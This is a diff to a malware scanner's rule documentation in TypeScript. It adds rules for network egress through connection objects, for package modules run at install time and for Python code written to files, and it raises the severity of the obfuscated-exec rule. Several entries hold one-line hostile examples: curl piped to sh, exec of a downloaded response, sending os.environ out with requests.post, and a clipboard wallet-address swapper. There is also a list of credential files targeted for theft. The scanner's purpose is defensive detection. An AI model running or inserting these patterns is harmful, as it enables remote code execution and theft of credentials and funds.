@@ -40,6 +40,16 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       "HTTP clients and SDKs call the network by design; at call time these stay info or low. A chat bot reached with the user's own token (tqdm's Telegram bar) and a DNS lookup of an IP literal (no query is sent) are not shady.",
   },
   {
+    id: 'egress-via-object',
+    name: 'Send through a connection object',
+    family: 'egress',
+    severity: 'info',
+    catches:
+      "A send-like method (send, sendall, urlopen, request, getresponse, handle_request, _send_user_message, connect, exec_command, ...) called on an object whose class the file does not show (a parameter, an attribute), in a module of a network package (requests, urllib3, httpx, paramiko, dnspython, ...) or in a file that imports a network module, when the file calls no network API directly. It makes the file's egress verdict follow outbound logic that goes through objects passed in (requests' sessions, urllib3's pool manager, paramiko's channels).",
+    example: 'def send(self, request):\n    return self.pool.urlopen(request.method, request.url)',
+    falsePositives: 'Generators driven with .send() in a file that also imports a network module; info only.',
+  },
+  {
     id: 'egress-dns-lookup',
     name: 'DNS lookup',
     family: 'egress',
@@ -185,7 +195,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable file written by urlretrieve or by a function that fetched its bytes, then started as it is.',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started.',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
@@ -271,9 +281,9 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     id: 'exec-custom-decoder',
     name: 'Home-made obfuscator',
     family: 'dynamic-code',
-    severity: 'medium',
+    severity: 'high',
     catches:
-      'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR), in the argument or in what a loop appends to the name it passes: a cipher with no standard decoder to undo it. High in code that runs at install, start-up or import.',
+      'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR), in the argument or in what a loop appends to the name it passes: a cipher with no standard decoder to undo it. High even in code a user calls (no benign package measured hides code this way); critical in code that runs at install, start-up or import.',
     example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))',
     falsePositives: 'Code generators that rewrite a long template per character (none seen on the benign set).',
   },
@@ -333,7 +343,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'high',
     catches:
-      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
+      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots; a parameter named for a wallet's private key or recovery phrase) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
     example: 'requests.post(URL, json=dict(os.environ))',
     falsePositives:
       'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).',
@@ -388,6 +398,28 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       'Code that reads the clipboard and writes it back (pyperclip, win32clipboard, tkinter): the crypto-address swappers. High in code that runs by itself.',
     example: 'if ADDRESS.match(pyperclip.paste()): pyperclip.copy(MY_ADDRESS)',
     falsePositives: 'Clipboard managers and editors that transform what the user copied.',
+  },
+  {
+    id: 'install-imports-module',
+    name: 'Package module run at install time',
+    family: 'install-hook',
+    severity: 'info',
+    catches:
+      "A module of the archive that install-time code imports (setup.py's install hook doing `from pkg import tools; tools.init()`), with the functions it calls or imports from it. The target stage analyses that module as install-time code: its module level and those functions (and what they call, import or re-export in turn) count as running while pip installs, so a payload moved out of setup.py keeps its install-time severity. Modules the archive does not hold (setuptools, dependencies) are not reported.",
+    example: 'class Install(install):\n    def run(self):\n        from demo import hook\n        hook.start()',
+    falsePositives:
+      'setup.py reading the version from its own package: the finding is info, and that module is judged as install-time code.',
+  },
+  {
+    id: 'python-code-written',
+    name: 'Python code written to a file',
+    family: 'dynamic-code',
+    severity: 'info',
+    catches:
+      'A string literal that reads as Python statements (an import, or a call of exec, eval, compile or __import__) written into a file with .write(), typically to start it later as a script. The literal is analysed as a virtual file (path#decoded-N) with the trigger of the write, so a downloader kept as text is judged as the code it is.',
+    example: 'tmp.write(b"from urllib.request import urlopen; exec(urlopen(URL).read())")',
+    falsePositives:
+      'Code generators and project templates that write Python files; info, their content is judged on its own.',
   },
   {
     id: 'drop-and-run',
